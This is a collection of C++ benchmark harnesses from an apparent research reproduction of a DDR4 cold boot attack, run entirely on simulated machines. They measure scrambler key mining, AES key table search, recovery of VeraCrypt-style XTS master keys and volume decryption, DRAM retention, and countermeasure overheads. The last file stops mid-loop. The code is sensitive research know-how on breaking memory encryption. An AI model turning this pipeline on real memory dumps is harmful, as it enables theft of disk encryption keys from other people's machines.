    fillWorkload(victim, {}, seed + 2);
    auto vf = volume::VolumeFile::create("pw", 8, seed + 3);
    auto mounted = volume::MountedVolume::mount(victim, vf, "pw",
                                                keytable_addr);
    std::vector<uint8_t> expected(mounted->masterKeys().begin(),
                                  mounted->masterKeys().end());

    Machine attacker(cpuModelByName(sc.cpu), BiosConfig{}, 1,
                     seed + 4);
    ColdBootParams quick;
    quick.transfer_seconds = 0.05; // kindest case for the baseline
    auto cold = coldBootTransfer(victim, attacker, 0, quick);

    if (sc.descramble_ddr3) {
        auto universal = attack::recoverDdr3UniversalKey(cold.dump);
        attack::descrambleWithUniversalKey(cold.dump, universal);
    }

    // Baseline.
    attack::BaselineParams bp;
    bp.max_bit_errors = 160;
    if (ctx.smoke()) {
        bp.scan_start =
            keytable_addr > KiB(64) ? keytable_addr - KiB(64) : 0;
        bp.scan_bytes = KiB(192);
    }
    auto baseline = attack::haldermanSearch(cold.dump, bp);
    int baseline_hits = 0;
    for (const auto &k : baseline)
        baseline_hits +=
            !memcmp(k.master.data(), expected.data(), 32) ||
            !memcmp(k.master.data(), expected.data() + 32, 32);

    // Paper attack (only meaningful on the scrambled DDR4 dump, but
    // run everywhere for completeness).
    attack::PipelineParams pp;
    pp.search.scan_start = keytable_addr - KiB(64);
    pp.search.scan_bytes = KiB(128);
    auto report = attack::runColdBootAttack(cold.dump, pp);
    int paper_hits = 0;
    for (const auto &pair : report.xts_pairs)
        paper_hits +=
            !memcmp(pair.data_key.data(), expected.data(), 32) &&
            !memcmp(pair.tweak_key.data(), expected.data() + 32, 32);

    std::printf("%-34s baseline keys: %d/2   paper attack pairs: "
                "%d/1\n",
                sc.label, baseline_hits, paper_hits);
    ctx.report(std::string("baseline.") + sc.key + ".baseline_keys",
               static_cast<double>(baseline_hits),
               "XTS halves found by the Halderman baseline (of 2)");
    ctx.report(std::string("baseline.") + sc.key + ".paper_pairs",
               static_cast<double>(paper_hits),
               "XTS pairs recovered by the paper attack (of 1)");
}

} // anonymous namespace

COLDBOOT_BENCH(baseline)
{
    setLogLevel(LogLevel::Warn);
    std::printf("Baseline (Halderman 2008) vs the paper's litmus "
                "attack\n\n");
    run(ctx, {"DDR3 dump, raw (scrambled)", "ddr3_raw", "i5-2540M",
              false},
        8000);
    run(ctx, {"DDR3 dump + universal-key descramble",
              "ddr3_descrambled", "i5-2540M", true},
        8000);
    run(ctx, {"DDR4 dump, raw (scrambled)", "ddr4_raw", "i5-6400",
              false},
        8200);
    ctx.setBytesProcessed(3 * ctx.pick(MiB(4), MiB(2)));

    std::printf(
        "\nExpected shape: the baseline finds both XTS keys only on"
        " the descrambled\nDDR3 image; on scrambled dumps it finds"
        " nothing. The paper's attack recovers\nthe pair from the"
        " scrambled DDR4 dump directly - the capability gap the\n"
        "paper introduces. (On DDR3 the paper attack reports no pair:"
        " its litmus\ntargets the DDR4 scrambler structure; DDR3 falls"
        " to the simpler universal-key\npath above.)\n");
}
