/**
 * @file
 * E4 - the full Section III-C attack, end to end, with a full-dump
 * scan (no windowing): freeze a loaded Skylake DDR4 machine with a
 * mounted VeraCrypt-style volume, transfer the DIMM, dump it on a
 * scrambler-enabled attacker machine, mine keys, search the whole
 * dump for AES-256 key tables, pair the XTS keys and decrypt the
 * captured volume.
 *
 * Also reproduces the attack-performance paragraph (scan throughput;
 * the paper reports 100 MB in 2 h on one AES-NI core) and the
 * temperature sensitivity (a warm transfer destroys too much data).
 *
 * The smoke profile shrinks the victim to 1 MiB and windows the scan
 * around the key table; the full profile scans a 4 MiB dump end to
 * end.
 */

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>

#include "attack/attack_pipeline.hh"
#include "common/units.hh"
#include "crypto/xts.hh"
#include "dram/dram_module.hh"
#include "obs/bench.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"
#include "platform/workload.hh"
#include "volume/veracrypt_volume.hh"

using namespace coldboot;
using namespace coldboot::platform;
using namespace coldboot::attack;

namespace
{

struct Scenario
{
    bool cooled;
    uint64_t capacity;
    uint64_t seed;
};

void
runScenario(obs::bench::BenchContext &ctx, const Scenario &sc)
{
    Machine victim(cpuModelByName("i5-6400"), BiosConfig{}, 1,
                   sc.seed);
    victim.installDimm(0, std::make_shared<dram::DramModule>(
                              dram::Generation::DDR4, sc.capacity,
                              dram::DecayParams{}, sc.seed + 1));
    victim.boot();
    fillWorkload(victim, {}, sc.seed + 2);

    auto vf = volume::VolumeFile::create("hunter2", 16, sc.seed + 3);
    uint64_t keytable_addr = sc.capacity * 3 / 4 + 16;
    auto mounted = volume::MountedVolume::mount(victim, vf, "hunter2",
                                                keytable_addr);
    std::vector<uint8_t> secret(volume::sectorBytes, 0);
    const char *msg = "the secret plans";
    std::memcpy(secret.data(), msg, std::strlen(msg));
    mounted->writeSector(3, secret);
    std::vector<uint8_t> expected(mounted->masterKeys().begin(),
                                  mounted->masterKeys().end());

    BiosConfig attacker_bios;
    attacker_bios.boot_pollution_bytes = KiB(64);
    Machine attacker(cpuModelByName("i5-6600K"), attacker_bios, 1,
                     sc.seed + 4);
    ColdBootParams cold_params;
    cold_params.cool_first = sc.cooled;
    auto cold = coldBootTransfer(victim, attacker, 0, cold_params);

    double decay_pct =
        100.0 * static_cast<double>(cold.bits_flipped) /
        (static_cast<double>(cold.dump.size()) * 8);
    std::printf("--- %s transfer: %.2f%% bits flipped\n",
                sc.cooled ? "cooled (-25C)" : "warm (20C)",
                decay_pct);

    PipelineParams pipeline_params;
    if (ctx.smoke()) {
        // Window the AES search around the key table; mining still
        // sees the whole (1 MiB) dump.
        pipeline_params.search.scan_start =
            keytable_addr > KiB(64) ? keytable_addr - KiB(64) : 0;
        pipeline_params.search.scan_bytes = KiB(192);
    }
    PipelineReport report =
        runColdBootAttack(cold.dump, pipeline_params);
    std::printf("    mined keys: %zu, AES tables: %zu, XTS pairs: "
                "%zu, scan %.2f MiB/s (litmus hits %llu)\n",
                report.mined_keys.size(), report.recovered.size(),
                report.xts_pairs.size(), report.mib_per_second,
                static_cast<unsigned long long>(
                    report.search_stats.litmus_hits));

    bool key_match = false, decrypted = false;
    for (const auto &pair : report.xts_pairs) {
        if (std::memcmp(pair.data_key.data(), expected.data(), 32) ==
                0 &&
            std::memcmp(pair.tweak_key.data(), expected.data() + 32,
                        32) == 0) {
            key_match = true;
            crypto::XtsAes xts({pair.data_key.data(), 32},
                               {pair.tweak_key.data(), 32});
            std::vector<uint8_t> plain(volume::sectorBytes);
            xts.decryptSector(3, vf.sectorCiphertext(3), plain);
            decrypted = std::memcmp(plain.data(), msg,
                                    std::strlen(msg)) == 0;
        }
    }
    std::printf("    master keys recovered: %s; volume decrypted: "
                "%s\n\n",
                key_match ? "YES" : "no", decrypted ? "YES" : "no");

    const char *label = sc.cooled ? "cooled" : "warm";
    ctx.report(std::string("attack_e2e.") + label + ".decay_pct",
               decay_pct, "bits flipped during the transfer");
    ctx.report(std::string("attack_e2e.") + label + ".xts_pairs",
               static_cast<double>(report.xts_pairs.size()),
               "XTS master-key pairs recovered");
    ctx.report(std::string("attack_e2e.") + label + ".decrypted",
               decrypted ? 1.0 : 0.0,
               "1 when the captured volume decrypted");
    if (sc.cooled)
        ctx.report("attack_e2e.scan_mib_per_second",
                   report.mib_per_second,
                   "end-to-end pipeline scan throughput");
}

} // anonymous namespace

COLDBOOT_BENCH(attack_e2e)
{
    const uint64_t capacity = ctx.pick(MiB(4), MiB(1));
    std::printf("E4: end-to-end DDR4 cold boot attack "
                "(%llu MiB victim, %s scan)\n\n",
                static_cast<unsigned long long>(capacity >> 20),
                ctx.smoke() ? "windowed" : "full-dump");

    runScenario(ctx, {true, capacity, 9000});
    runScenario(ctx, {false, capacity, 9100});
    ctx.setBytesProcessed(2 * capacity);

    std::printf("Expected shape: the cooled transfer recovers the "
                "VeraCrypt XTS master keys\nand decrypts the volume; "
                "the warm transfer decays too much to recover "
                "anything.\nPaper throughput baseline: ~0.014 MB/s "
                "per AES-NI core (100 MB in 2 h).\n");
}
