/**
 * @file
 * E1 - Table I platforms + Section III-B scrambler properties.
 *
 * For every CPU model in the paper's Table I, this harness runs the
 * reverse-cold-boot analysis procedure to extract the scrambler
 * keystream, then measures the properties the paper reports:
 *  - distinct 64-byte keys per channel (16 for DDR3, 4096 for DDR4);
 *  - whether re-reading after reboot factors to a single universal
 *    key (yes for DDR3, no for DDR4);
 *  - whether key sharing between blocks is stable across reboots;
 *  - whether the scrambler-key litmus test accepts the keys.
 */

#include <cstdio>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "attack/litmus.hh"
#include "common/hex.hh"
#include "common/units.hh"
#include "dram/dram_module.hh"
#include "memctrl/address_map.hh"
#include "obs/bench.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"

using namespace coldboot;
using namespace coldboot::platform;

namespace
{

struct Analysis
{
    size_t distinct_keys;
    size_t reboot_xor_patterns;
    bool litmus_all_pass;
    bool sharing_stable;
};

Analysis
analyzeModel(const CpuModel &model, uint64_t seed)
{
    BiosConfig bios;
    bios.boot_pollution_bytes = 0;
    Machine machine(model, bios, 1, seed);
    machine.installDimm(
        0, std::make_shared<dram::DramModule>(
               memctrl::cpuUsesDdr4(model.generation)
                   ? dram::Generation::DDR4
                   : dram::Generation::DDR3,
               MiB(1), dram::DecayParams{}, seed + 1));

    MemoryImage ks1 = reverseColdBootExtractKeystream(machine, 0);
    machine.shutdown();
    MemoryImage ks2 = reverseColdBootExtractKeystream(machine, 0);
    machine.shutdown();

    Analysis out{};

    std::set<std::string> keys;
    std::set<std::string> xors;
    std::set<std::pair<std::string, std::string>> sharing;
    out.litmus_all_pass = true;
    out.sharing_stable = true;
    for (size_t l = 0; l < ks1.lines(); ++l) {
        auto k1 = ks1.line(l);
        auto k2 = ks2.line(l);
        keys.insert(toHex(k1));
        std::string x;
        for (int i = 0; i < 64; ++i)
            x.push_back(static_cast<char>(k1[i] ^ k2[i]));
        xors.insert(x);
        out.litmus_all_pass =
            out.litmus_all_pass && attack::scramblerKeyLitmus(k1, 0);
        // Sharing stability: the boot-1 key value must determine the
        // boot-2 key value (blocks sharing a key keep sharing one).
        auto pair = std::make_pair(toHex(k1), toHex(k2));
        sharing.insert(pair);
    }
    out.distinct_keys = keys.size();
    out.reboot_xor_patterns = xors.size();
    out.sharing_stable = sharing.size() == keys.size();
    return out;
}

} // anonymous namespace

COLDBOOT_BENCH(table1_scramblers)
{
    std::printf("E1: Table I platforms and scrambler properties\n");
    std::printf("%-10s %-12s %-5s %8s %10s %8s %8s %7s\n", "model",
                "uarch", "DRAM", "keys/ch", "rebootXOR", "litmus",
                "sharing", "paper");
    std::printf("%.96s\n",
                "-----------------------------------------------------"
                "-------------------------------------------");
    // The smoke profile keeps one model per DRAM generation; the
    // shape (16-key DDR3 vs 4096-key DDR4) is per-generation.
    std::vector<CpuModel> models;
    bool have_ddr3 = false, have_ddr4 = false;
    for (const auto &model : cpuModelTable()) {
        bool ddr4 = memctrl::cpuUsesDdr4(model.generation);
        if (ctx.smoke() && (ddr4 ? have_ddr4 : have_ddr3))
            continue;
        (ddr4 ? have_ddr4 : have_ddr3) = true;
        models.push_back(model);
    }
    uint64_t total_bytes = 0;
    for (const auto &model : models) {
        bool ddr4 = memctrl::cpuUsesDdr4(model.generation);
        Analysis a = analyzeModel(model, 0xC0FFEE);
        total_bytes += 2 * MiB(1);
        std::printf("%-10s %-12s %-5s %8zu %10s %8s %8s %7s\n",
                    model.name.c_str(),
                    memctrl::cpuGenerationName(model.generation),
                    ddr4 ? "DDR4" : "DDR3", a.distinct_keys,
                    a.reboot_xor_patterns == 1 ? "1 (univ)" : "many",
                    a.litmus_all_pass ? "pass" : "n/a",
                    a.sharing_stable ? "stable" : "broken",
                    ddr4 ? "4096" : "16");
        ctx.report("table1." + model.name + ".distinct_keys",
                   static_cast<double>(a.distinct_keys),
                   "distinct 64-byte scrambler keys per channel");
    }
    ctx.setBytesProcessed(total_bytes);
    std::printf("\nExpected shape: DDR3 parts expose 16 keys and one"
                " universal reboot-XOR key;\nSkylake DDR4 parts expose"
                " 4096 keys, no universal key, litmus invariants hold,"
                "\nand key sharing stays stable across reboots.\n");
}
