/**
 * @file
 * E2 - Figure 3: visual comparison of DDR3 and DDR4 scramblers.
 *
 * A structured image (flat regions, gradients, repeated texture - a
 * stand-in for the paper's photo) is written through the scrambler
 * of a DDR3 and a DDR4 machine. Five images are produced, matching
 * Figure 3 (a)-(e):
 *   (a) the original;
 *   (b) raw DDR3 DRAM contents (scrambled);
 *   (c) DDR3 contents re-read after reboot (descrambled with fresh
 *       keys - the universal-key factoring leaves visible structure);
 *   (d) raw DDR4 DRAM contents;
 *   (e) DDR4 contents re-read after reboot.
 *
 * The quantitative proxy for "visible correlations" is the number of
 * duplicate 64-byte line pairs: structure in the source survives
 * scrambling when many lines share a scrambler key.
 * PGM renders are written to /tmp/coldboot_fig3_*.pgm (full profile
 * only; the smoke profile skips the file writes).
 */

#include <cstdio>
#include <memory>

#include "common/units.hh"
#include "dram/dram_module.hh"
#include "obs/bench.hh"
#include "platform/machine.hh"

using namespace coldboot;
using namespace coldboot::platform;

namespace
{

constexpr size_t imageWidth = 512;

/** A synthetic "photo": flat sky, gradient, repeating texture. */
MemoryImage
makeSourceImage(uint64_t image_bytes)
{
    MemoryImage img(image_bytes);
    auto bytes = img.bytesMutable();
    size_t height = image_bytes / imageWidth;
    for (size_t y = 0; y < height; ++y) {
        for (size_t x = 0; x < imageWidth; ++x) {
            uint8_t v;
            if (y < height / 3) {
                v = 220; // flat sky
            } else if (y < 2 * height / 3) {
                v = static_cast<uint8_t>(x / 4); // gradient
            } else {
                v = ((x / 16 + y / 16) % 2) ? 40 : 200; // checkers
            }
            bytes[y * imageWidth + x] = v;
        }
    }
    return img;
}

struct Capture
{
    MemoryImage scrambled{64};
    MemoryImage reread{64};
};

Capture
captureFor(const char *cpu_name, const MemoryImage &src, uint64_t seed)
{
    uint64_t image_bytes = src.size();
    BiosConfig bios;
    bios.boot_pollution_bytes = 0;
    Machine machine(cpuModelByName(cpu_name), bios, 1, seed);
    bool ddr4 =
        memctrl::cpuUsesDdr4(machine.model().generation);
    auto dimm = std::make_shared<dram::DramModule>(
        ddr4 ? dram::Generation::DDR4 : dram::Generation::DDR3,
        image_bytes, dram::DecayParams{}, seed + 1);
    machine.installDimm(0, dimm);
    machine.boot();
    machine.writePhys(0, src.bytes());

    Capture cap;
    // (b)/(d): raw DRAM contents.
    MemoryImage raw(image_bytes);
    dimm->read(0, raw.bytesMutable());
    cap.scrambled = std::move(raw);

    // (c)/(e): re-read after reboot (fresh scrambler seed).
    machine.reboot();
    cap.reread = machine.dumpMemory();
    machine.shutdown();
    return cap;
}

void
report(obs::bench::BenchContext &ctx, const char *label,
       const char *key, const MemoryImage &img, const char *path,
       bool save)
{
    if (save)
        img.savePgm(path, imageWidth);
    std::printf("%-28s dup-line-pairs=%-10zu ones=%.3f  -> %s\n",
                label, img.duplicateLinePairs(), img.onesFraction(),
                save ? path : "(not saved)");
    ctx.report(std::string("fig3.") + key + ".dup_line_pairs",
               static_cast<double>(img.duplicateLinePairs()),
               "duplicate 64-byte line pairs (structure proxy)");
}

} // anonymous namespace

COLDBOOT_BENCH(fig3_visual)
{
    std::printf("E2: Figure 3 visual comparison (structure proxy: "
                "duplicate 64-byte line pairs)\n\n");
    const uint64_t image_bytes = ctx.pick(MiB(1), KiB(256));
    const bool save = !ctx.smoke();
    MemoryImage src = makeSourceImage(image_bytes);
    report(ctx, "(a) original", "a_original", src,
           "/tmp/coldboot_fig3_a_original.pgm", save);

    Capture ddr3 = captureFor("i5-2540M", src, 1111);
    report(ctx, "(b) DDR3 scrambled", "b_ddr3", ddr3.scrambled,
           "/tmp/coldboot_fig3_b_ddr3.pgm", save);
    report(ctx, "(c) DDR3 reread after boot", "c_ddr3_reboot",
           ddr3.reread, "/tmp/coldboot_fig3_c_ddr3_reboot.pgm", save);

    Capture ddr4 = captureFor("i5-6400", src, 2222);
    report(ctx, "(d) DDR4 scrambled", "d_ddr4", ddr4.scrambled,
           "/tmp/coldboot_fig3_d_ddr4.pgm", save);
    report(ctx, "(e) DDR4 reread after boot", "e_ddr4_reboot",
           ddr4.reread, "/tmp/coldboot_fig3_e_ddr4_reboot.pgm", save);

    ctx.setBytesProcessed(5 * image_bytes);
    std::printf(
        "\nExpected shape: (a) huge duplicate count (structured"
        " source);\n(b) large (16-key DDR3 pool preserves repeats);"
        " (c) large (universal key\nfactoring keeps all structure);"
        " (d) ~256x smaller than (b) (4096-key pool);\n(e) small"
        " (no universal key on DDR4).\n");
}
