/**
 * @file
 * E5 - Section III-D DRAM retention measurements.
 *
 * The seven-module fleet (five DDR3, two DDR4, one deliberately leaky
 * DDR3 part) is filled with data, unpowered, and sampled for charge
 * retention over time at room temperature and super-cooled to -25 C.
 * Paper datapoints: at normal temperature a significant fraction of
 * data is lost within 3 s; cooled modules retain 90-99% over the ~5 s
 * transfer; one DDR3 module leaks faster than the DDR4 parts.
 */

#include <cstdio>
#include <string>
#include <vector>

#include "common/rng.hh"
#include "common/units.hh"
#include "dram/dram_module.hh"
#include "obs/bench.hh"

using namespace coldboot;
using namespace coldboot::dram;

namespace
{

double
retentionAfter(const CatalogEntry &entry, double celsius,
               double seconds, uint64_t seed)
{
    auto module = makeCatalogModule(entry, seed);
    std::vector<uint8_t> data(module->size());
    Xoshiro256StarStar rng(seed + 7);
    rng.fillBytes(data);
    module->write(0, data);
    module->powerOff();
    module->coolTo(celsius);
    module->elapse(seconds);
    return module->retentionVersus(data);
}

} // anonymous namespace

COLDBOOT_BENCH(retention)
{
    std::printf("E5: DRAM retention vs time and temperature "
                "(%% bits retained)\n\n");

    // Smoke: one nominal DDR3, the leaky DDR3 part and one DDR4
    // module at the two headline time points - enough to keep the
    // paper's three claims visible.
    std::vector<double> times =
        ctx.smoke() ? std::vector<double>{3.0, 5.0}
                    : std::vector<double>{1.0, 3.0, 5.0, 10.0, 30.0,
                                          60.0};
    std::vector<CatalogEntry> fleet;
    for (const auto &entry : moduleCatalog()) {
        if (ctx.smoke() && entry.model_name != "DDR3-A (nominal)" &&
            entry.model_name != "DDR3-C (leaky)" &&
            entry.model_name != "DDR4-A (nominal)")
            continue;
        fleet.push_back(entry);
    }

    uint64_t total_bytes = 0;
    for (double celsius : {20.0, -25.0}) {
        std::printf("Temperature %+.0f C\n", celsius);
        std::printf("%-18s", "module");
        for (double t : times)
            std::printf("%9.0fs", t);
        std::printf("\n");
        for (const auto &entry : fleet) {
            std::printf("%-18s", entry.model_name.c_str());
            for (double t : times) {
                double r = retentionAfter(entry, celsius, t, 42);
                total_bytes += entry.bytes;
                std::printf("%9.2f%%", 100.0 * r);
                if (celsius < 0.0 && t == 5.0)
                    ctx.report("retention." + entry.model_name +
                                   ".cooled_5s_pct",
                               100.0 * r,
                               "bits retained after a cooled 5 s "
                               "transfer");
            }
            std::printf("\n");
        }
        std::printf("\n");
    }
    ctx.setBytesProcessed(total_bytes);

    std::printf("Expected shape: at +20 C most modules lose a "
                "significant fraction within\n~3 s; at -25 C all "
                "retain 90-99%% over a 5 s transfer; the leaky DDR3 "
                "part\nis visibly worse than the DDR4 modules at "
                "every point.\n");
}
