/**
 * @file
 * SIMD kernel-layer benchmarks: per-kernel throughput for every
 * usable backend (scalar reference, SSE2, AVX2), with the AVX2
 * speedup over scalar published as a report figure per kernel.
 *
 * The interesting row is xor_popcount (the hamming_distance kernel -
 * the XOR+popcount inner loop of the key miner and decay sweep): the
 * ISSUE-10 acceptance bar is a >=4x AVX2-vs-scalar speedup on AVX2
 * hosts, checked here as `simd.xor_popcount.avx2_speedup_vs_scalar`.
 *
 * Backends are driven through their direct kernel tables
 * (simd::kernels(backend)), never the global dispatch state, so the
 * bench cannot perturb other benches in the same driver run. Every
 * backend's per-pass result checksum is compared against the scalar
 * oracle - a backend that is fast but wrong fails loudly via
 * `simd.backends_agree`.
 */

#include <chrono>
#include <cstdio>
#include <cstring>
#include <functional>
#include <string>
#include <utility>
#include <vector>

#include "common/rng.hh"
#include "common/units.hh"
#include "obs/bench.hh"
#include "simd/simd.hh"

using namespace coldboot;

COLDBOOT_BENCH(simd)
{
    // Working set: big enough to stream (out of L2) under the full
    // profile, trimmed to a sanity-check size under smoke. Always a
    // multiple of the 64-byte block so the block kernels cover it.
    const size_t n = ctx.pick(MiB(8), KiB(512));
    const unsigned passes = ctx.pick(24u, 2u);

    std::vector<uint8_t> pristine(n), a(n), b(n), mask(n), ground(n);
    uint8_t key[64];
    {
        Xoshiro256StarStar rng(0x51D);
        rng.fillBytes(pristine);
        rng.fillBytes(b);
        rng.fillBytes(mask);
        rng.fillBytes(ground);
        std::span<uint8_t> key_span(key, 64);
        rng.fillBytes(key_span);
    }

    std::vector<simd::Backend> backends;
    for (unsigned i = 0; i < simd::kBackendCount; ++i) {
        auto backend = static_cast<simd::Backend>(i);
        if (simd::backendUsable(backend))
            backends.push_back(backend);
    }

    std::printf("simd: kernel throughput per backend (%zu KiB "
                "working set, %u passes)\n\n",
                n >> 10, passes);
    std::printf("%-16s", "kernel");
    for (auto backend : backends)
        std::printf(" %10s", simd::backendName(backend));
    std::printf("   (GiB/s)\n");

    // Each row runs one pass of one kernel over the working set and
    // returns a checksum; the scalar checksum is the oracle.
    using Row =
        std::pair<std::string,
                  std::function<uint64_t(const simd::Kernels &)>>;
    std::vector<Row> rows;
    rows.emplace_back("xor", [&](const simd::Kernels &k) {
        k.xor_bytes(a.data(), b.data(), n);
        return uint64_t{a[0]} | uint64_t{a[n - 1]} << 8;
    });
    rows.emplace_back("xor_popcount", [&](const simd::Kernels &k) {
        return k.hamming_distance(a.data(), b.data(), n);
    });
    rows.emplace_back("popcount", [&](const simd::Kernels &k) {
        return k.hamming_weight(a.data(), n);
    });
    rows.emplace_back("masked_compare", [&](const simd::Kernels &k) {
        return k.masked_mismatch(a.data(), b.data(), mask.data(), n);
    });
    rows.emplace_back("litmus64", [&](const simd::Kernels &k) {
        uint64_t sum = 0;
        for (size_t off = 0; off < n; off += simd::kBlockBytes)
            sum += k.scrambler_litmus_score64(&a[off]);
        return sum;
    });
    rows.emplace_back("xor_key64", [&](const simd::Kernels &k) {
        k.xor_repeat_key64(a.data(), key, n);
        return uint64_t{a[0]} | uint64_t{a[n - 1]} << 8;
    });
    rows.emplace_back("decay_apply", [&](const simd::Kernels &k) {
        return k.decay_apply_ground(a.data(), ground.data(), n);
    });

    bool agree = true;
    uint64_t total_bytes = 0;
    for (const auto &[kernel_name, one_pass] : rows) {
        std::printf("%-16s", kernel_name.c_str());
        double scalar_gib = 0.0;
        uint64_t oracle_sum = 0;
        for (auto backend : backends) {
            // Reset the mutable operand so every backend sees the
            // same pass-by-pass state (and checksums must match).
            std::memcpy(a.data(), pristine.data(), n);
            const simd::Kernels &k = simd::kernels(backend);

            uint64_t sum = 0;
            auto t0 = std::chrono::steady_clock::now();
            for (unsigned p = 0; p < passes; ++p)
                sum += one_pass(k);
            double secs = std::chrono::duration<double>(
                              std::chrono::steady_clock::now() - t0)
                              .count();

            if (backend == simd::Backend::Scalar)
                oracle_sum = sum;
            else if (sum != oracle_sum) {
                agree = false;
                std::printf("\n!! %s/%s checksum DIFFERS from "
                            "scalar\n",
                            kernel_name.c_str(),
                            simd::backendName(backend));
            }

            double gib_s = secs > 0.0
                ? static_cast<double>(passes) * n / (1ull << 30) /
                    secs
                : 0.0;
            std::printf(" %10.2f", gib_s);
            ctx.report("simd." + kernel_name + "." +
                           simd::backendName(backend) +
                           ".gib_per_second",
                       gib_s, "kernel throughput on this backend");
            if (backend == simd::Backend::Scalar)
                scalar_gib = gib_s;
            else if (scalar_gib > 0.0)
                ctx.report("simd." + kernel_name + "." +
                               simd::backendName(backend) +
                               "_speedup_vs_scalar",
                           gib_s / scalar_gib,
                           "vector backend vs. the scalar oracle");
            total_bytes += static_cast<uint64_t>(passes) * n;
        }
        std::printf("\n");
    }

    ctx.report("simd.backends_agree", agree ? 1.0 : 0.0,
               "1 when every backend checksum matched the scalar "
               "oracle");
    ctx.report("simd.active_backend",
               static_cast<double>(
                   static_cast<unsigned>(simd::activeBackend())),
               "runtime-dispatched backend (0=scalar 1=sse2 2=avx2)");
    ctx.setBytesProcessed(total_bytes);

    std::printf("\nActive dispatch backend: %s\n",
                simd::backendName(simd::activeBackend()));
    std::printf("Expected shape: AVX2 >=4x scalar on xor_popcount "
                "(the miner's inner loop);\nSSE2 in between; every "
                "backend checksum identical to scalar.\n");
}
