/**
 * @file
 * E8 - Figure 7: power and area overhead of replacing scramblers
 * with strong cipher engines, one engine per channel, against four
 * 45 nm reference CPUs at 100% and a realistic 20% bandwidth
 * utilization.
 */

#include <cstdio>
#include <string>
#include <vector>

#include "dram/traffic.hh"
#include "engine/power_model.hh"
#include "obs/bench.hh"

using namespace coldboot::engine;

COLDBOOT_BENCH(fig7_power_area)
{
    std::printf("E8: Figure 7 power and area overheads (one engine "
                "per channel)\n\n");
    std::printf("%-16s %-9s %3s %9s %12s %12s\n", "CPU", "engine",
                "ch", "area %", "power@100%", "power@20%");
    std::printf("%.70s\n",
                "-----------------------------------------------------"
                "-----------------");

    auto rows = figure7Overheads();
    for (const auto &row : rows) {
        int channels = 0;
        for (const auto &cpu : referenceCpus())
            if (cpu.name == row.cpu)
                channels = cpu.channels;
        std::printf("%-16s %-9s %3d %8.2f%% %11.2f%% %11.2f%%\n",
                    row.cpu.c_str(), cipherKindName(row.engine),
                    channels, 100.0 * row.area_fraction,
                    100.0 * row.power_fraction_full,
                    100.0 * row.power_fraction_20);
        ctx.report(std::string("fig7.") + row.cpu + "." +
                       cipherKindName(row.engine) + ".power_pct_full",
                   100.0 * row.power_fraction_full,
                   "power overhead at 100% bandwidth utilization");
    }

    // Ground the 20% operating point: achieved DRAM utilization of
    // workload-shaped traffic through the bank-level simulator.
    std::printf("\nWorkload-shaped DRAM utilization (bank-level "
                "simulator, DDR4-2400):\n");
    auto params = coldboot::dram::BankTimingParams::forGrade(
        coldboot::dram::ddr4_2400());
    std::vector<coldboot::dram::TrafficPattern> patterns = {
        coldboot::dram::TrafficPattern::Streaming};
    if (!ctx.smoke()) {
        patterns.push_back(coldboot::dram::TrafficPattern::Random);
        patterns.push_back(
            coldboot::dram::TrafficPattern::PointerChase);
    }
    for (auto pattern : patterns) {
        coldboot::dram::TrafficParams tp;
        tp.pattern = pattern;
        if (ctx.smoke())
            tp.requests = 512;
        auto stream = coldboot::dram::generateTraffic(tp);
        auto r = coldboot::dram::measureBandwidth(params, stream);
        std::printf("  %-14s %6.2f GB/s of %5.2f  (%4.1f%% "
                    "utilization, row-hit %.2f)\n",
                    coldboot::dram::trafficPatternName(pattern),
                    r.achieved_gbs, r.peak_gbs,
                    100.0 * r.utilization, r.row_hit_rate);
        ctx.report(std::string("fig7.utilization.") +
                       coldboot::dram::trafficPatternName(pattern),
                   100.0 * r.utilization,
                   "achieved DRAM bandwidth utilization, percent");
    }

    std::printf(
        "\nExpected shape: area overheads uniformly about 1%% or"
        " below; power overheads\nbelow 3%% everywhere except the"
        " Atom N280, which peaks near 17%% at full\nbandwidth but"
        " drops under 6%% at a realistic 20%% utilization. The"
        " traffic table\nshows why 20%% is the right realistic"
        " point: even a streaming scan achieves\nonly ~20%% of peak"
        " DRAM bandwidth, and miss-bound workloads far less\n"
        "(the paper cites the CloudSuite ~15%% ceiling).\n");
}
