/**
 * @file
 * E3 - Section III-B scrambler-key mining.
 *
 * A loaded Skylake DDR4 system is cold-boot dumped; the miner then
 * scans growing prefixes of the dump. The paper reports that less
 * than 16 MB of dump suffices to mine all scrambler keys even on a
 * heavily loaded system; this harness reproduces that curve and
 * scores mined keys against ground truth (which the attack itself
 * never sees).
 */

#include <chrono>
#include <cstdio>
#include <cstring>
#include <memory>
#include <set>
#include <string>

#include "attack/key_miner.hh"
#include "common/units.hh"
#include "dram/dram_module.hh"
#include "memctrl/scrambler.hh"
#include "obs/bench.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"
#include "platform/workload.hh"

using namespace coldboot;
using namespace coldboot::platform;
using namespace coldboot::attack;

COLDBOOT_BENCH(key_mining)
{
    // Victim: a Skylake DDR4 machine under a mixed workload. The
    // smoke profile shrinks the dump and the prefix sweep; the
    // mined-key curve shape survives because keys repeat every
    // 4096 lines (256 KiB).
    const uint64_t victim_bytes = ctx.pick(MiB(16), MiB(2));
    std::vector<uint64_t> prefixes =
        ctx.smoke()
            ? std::vector<uint64_t>{MiB(1), MiB(2)}
            : std::vector<uint64_t>{MiB(1), MiB(2), MiB(4), MiB(8),
                                    MiB(16)};

    Machine victim(cpuModelByName("i5-6400"), BiosConfig{}, 1, 501);
    victim.installDimm(0, std::make_shared<dram::DramModule>(
                              dram::Generation::DDR4, victim_bytes,
                              dram::DecayParams{}, 502));
    victim.boot();
    fillWorkload(victim, {}, 503);

    // Oracle for scoring only: victim keys XOR attacker keys.
    auto &vscr = victim.controller().scrambler(0);
    std::vector<std::array<uint8_t, 64>> vkeys(4096);
    for (unsigned i = 0; i < 4096; ++i)
        vscr.lineKey(static_cast<uint64_t>(i) << 6, vkeys[i].data());

    BiosConfig attacker_bios;
    attacker_bios.boot_pollution_bytes = KiB(64);
    Machine attacker(cpuModelByName("i5-6600K"), attacker_bios, 1,
                     504);
    auto cold = coldBootTransfer(victim, attacker, 0);
    auto &ascr = attacker.controller().scrambler(0);
    std::vector<std::array<uint8_t, 64>> truth(4096);
    for (unsigned i = 0; i < 4096; ++i) {
        uint8_t ak[64];
        ascr.lineKey(static_cast<uint64_t>(i) << 6, ak);
        for (int b = 0; b < 64; ++b)
            truth[i][b] = static_cast<uint8_t>(vkeys[i][b] ^ ak[b]);
